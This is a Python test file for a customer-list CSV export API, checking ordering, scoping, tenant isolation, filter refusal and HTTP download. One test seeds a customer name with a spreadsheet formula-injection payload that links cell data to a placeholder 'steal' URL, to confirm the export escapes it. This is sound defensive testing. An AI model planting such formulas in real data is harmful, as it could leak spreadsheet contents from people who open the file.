"""The customer list's CSV export through the API: the issue's filter exported over gRPC in
the sort's order with its header row, names quoted and kept from running as formulas, the
scope respected, another business's customers never in it, a wrong filter refused by its
path before any byte, a saved segment exported, and the same file downloaded over
HTTP."""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING

import asyncpg
import grpc
import httpx
import pytest
from admin_support import assert_refused
from google.protobuf import json_format
from support import ServerProcess, Tenant, bearer, found_business, new_phone
from test_customer_list_api import customer_with_sales, loyal_but_away
from test_http_json import headers, http, reason_of, violations_of  # noqa: F401  (the fixture)

from purse.admin.v1 import admin_service_pb2 as admin
from purse.admin.v1 import customers_pb2 as lists
from purse.admin.v1 import segments_pb2 as segments
from purse.admin.v1.admin_service_pb2_grpc import AdminServiceStub
from purse.client import AdminClient, PurseError
from purse.v1 import terminal_service_pb2 as terminal

if TYPE_CHECKING:
    from purse.admin.v1.admin_service_pb2_grpc import AdminServiceAsyncStub
    from purse.v1.terminal_service_pb2_grpc import TerminalServiceAsyncStub

_path = "/purse.admin.v1.AdminService/ExportCustomers"


async def _exported(
    channel: grpc.aio.Channel, key: str, request: admin.ExportCustomersRequest
) -> list[bytes]:
    stub: AdminServiceAsyncStub = AdminServiceStub(channel)
    return [piece.csv async for piece in stub.ExportCustomers(request, metadata=bearer(key))]


def _rows(file: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(file.decode("utf-8-sig"), newline="")))


async def test_the_issue_s_filter_is_exported_in_order_with_names_that_cannot_run(
    channel: grpc.aio.Channel,
    terminal_stub: TerminalServiceAsyncStub,
    business: Tenant,
    pool: asyncpg.Pool,
) -> None:
    least = await customer_with_sales(channel, terminal_stub, business, 6, 150_00)
    most = await customer_with_sales(channel, terminal_stub, business, 6, 300_00)
    await customer_with_sales(channel, terminal_stub, business, 6, 200_00, recent_sale=True)
    named = await terminal_stub.RegisterCustomer(
        terminal.RegisterCustomerRequest(
            phone=new_phone(),
            given_name='=HYPERLINK("http://example.com/steal?"&A1)',
            family_name='Shevchenko, "Taras"',
        ),
        metadata=bearer(business.cash_desk.api_key),
    )
    by_points = lists.CustomerSort(
        column=lists.CUSTOMER_COLUMN_POINTS_BALANCE, direction=lists.SORT_DIRECTION_DESCENDING
    )
    key = business.administrator_api_key

    pieces = await _exported(
        channel, key, admin.ExportCustomersRequest(filter=loyal_but_away, sort=by_points)
    )
    just_named = b"".join(
        await _exported(
            channel,
            key,
            admin.ExportCustomersRequest(
                scope=lists.CustomerListScope(customer_ids=[named.membership.customer_id])
            ),
        )
    )
    stranger = (await found_business(channel, pool)).owner_api_key
    theirs = b"".join(
        await _exported(
            channel,
            stranger,
            admin.ExportCustomersRequest(scope=lists.CustomerListScope(customer_ids=[most])),
        )
    )

    assert pieces[0].startswith("\ufeffcustomer_id,phone,given_name,family_name,".encode())
    assert all(piece.endswith(b"\n") for piece in pieces)
    rows = _rows(b"".join(pieces))
    assert [int(row["customer_id"]) for row in rows] == [most, least]
    assert (rows[0]["sales_count"], rows[0]["sales_sum_UAH"]) == ("6", "600.00")
    assert rows[0]["points_balance"] == "300.00" and rows[0]["last_visit_time"].endswith("Z")
    (row,) = _rows(just_named)
    assert row["given_name"] == '\'=HYPERLINK("http://example.com/steal?"&A1)'
    assert row["family_name"] == 'Shevchenko, "Taras"'
    assert b'"Shevchenko, ""Taras"""' in just_named
    assert _rows(theirs) == [] and theirs.startswith("\ufeffcustomer_id,".encode())


async def test_a_scope_or_a_saved_segment_narrows_the_export(
    channel: grpc.aio.Channel, terminal_stub: TerminalServiceAsyncStub, business: Tenant
) -> None:
    buyer = await customer_with_sales(channel, terminal_stub, business, 1, 0)
    loyal = await customer_with_sales(channel, terminal_stub, business, 6, 150_00)
    await customer_with_sales(channel, terminal_stub, business, 0, 100_00)
    key = business.administrator_api_key
    stub: AdminServiceAsyncStub = AdminServiceStub(channel)
    segment = await stub.CreateSavedSegment(
        segments.CreateSavedSegmentRequest(
            segment=segments.SavedSegment(name="Loyal but away", filter=loyal_but_away)
        ),
        metadata=bearer(key),
    )
    scope = lists.CustomerListScope(terminal_id=business.cash_desk.terminal_id)

    at_the_till = await _exported(channel, key, admin.ExportCustomersRequest(scope=scope))
    by_segment = await _exported(
        channel, key, admin.ExportCustomersRequest(segment_id=segment.segment.segment_id)
    )
    with pytest.raises(grpc.aio.AioRpcError) as both:
        await _exported(
            channel,
            key,
            admin.ExportCustomersRequest(
                segment_id=segment.segment.segment_id, filter=loyal_but_away
            ),
        )

    assert [int(row["customer_id"]) for row in _rows(b"".join(at_the_till))] == [buyer, loyal]
    assert [int(row["customer_id"]) for row in _rows(b"".join(by_segment))] == [loyal]
    assert_refused(both.value, grpc.StatusCode.INVALID_ARGUMENT, "INVALID_ARGUMENT", "filter")


async def test_a_wrong_filter_is_refused_by_its_path_before_any_byte(
    channel: grpc.aio.Channel,
    business: Tenant,
    http: httpx.AsyncClient,  # noqa: F811
) -> None:
    wrong = lists.Filter(all=list(loyal_but_away.all))
    wrong.all[1].condition.value.CopyFrom(lists.FilterValue(text="a month ago"))
    stub: AdminServiceAsyncStub = AdminServiceStub(channel)
    received: list[bytes] = []

    call = stub.ExportCustomers(
        admin.ExportCustomersRequest(filter=wrong),
        metadata=bearer(business.administrator_api_key),
    )
    try:
        async for piece in call:
            received.append(piece.csv)
    except grpc.aio.AioRpcError as error:
        assert_refused(
            error,
            grpc.StatusCode.INVALID_ARGUMENT,
            "FILTER_INVALID",
            "filter.all[1].condition.value",
        )
    else:
        raise AssertionError("the export was not refused")
    answer = await http.post(
        _path,
        json={"filter": json_format.MessageToDict(wrong)},
        headers=headers(business.administrator_api_key),
    )

    assert received == []
    assert answer.status_code == 400 and answer.headers["content-type"] == "application/json"
    assert reason_of(answer) == "FILTER_INVALID"
    assert list(violations_of(answer)) == ["filter.all[1].condition.value"]


async def test_over_http_the_export_is_the_same_file_to_save(
    channel: grpc.aio.Channel,
    terminal_stub: TerminalServiceAsyncStub,
    business: Tenant,
    http: httpx.AsyncClient,  # noqa: F811
) -> None:
    for points in (150_00, 250_00):
        await customer_with_sales(channel, terminal_stub, business, 6, points)
    await customer_with_sales(channel, terminal_stub, business, 1, 0)
    request = admin.ExportCustomersRequest(filter=loyal_but_away)

    over_grpc = b"".join(await _exported(channel, business.administrator_api_key, request))
    answer = await http.post(
        _path,
        json=json_format.MessageToDict(request),
        headers=headers(business.administrator_api_key),
    )
    nothing = await http.post(_path, json={}, headers=headers("purse_key_unknown"))

    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == 'attachment; filename="customers.csv"'
    assert answer.headers["cache-control"] == "no-store"
    assert answer.content == over_grpc and len(_rows(answer.content)) == 2
    assert nothing.status_code == 401 and nothing.json()["code"] == "unauthenticated"


async def test_the_python_client_reads_the_export_piece_by_piece_and_raises_a_refusal(
    server: ServerProcess,
    channel: grpc.aio.Channel,
    terminal_stub: TerminalServiceAsyncStub,
    business: Tenant,
) -> None:
    buyer = await customer_with_sales(channel, terminal_stub, business, 1, 0)
    async with AdminClient(server.target, api_key=business.administrator_api_key) as client:
        scope = lists.CustomerListScope(customer_ids=[buyer])
        pieces = [piece.csv async for piece in client.export_customers(scope=scope)]
        with pytest.raises(PurseError) as refused:
            async for _ in client.export_customers(filter=lists.Filter()):
                raise AssertionError("a piece of a refused export")

    assert [int(row["customer_id"]) for row in _rows(b"".join(pieces))] == [buyer]
    assert refused.value.reason == "FILTER_INVALID"
    assert list(refused.value.field_violations) == ["filter"]
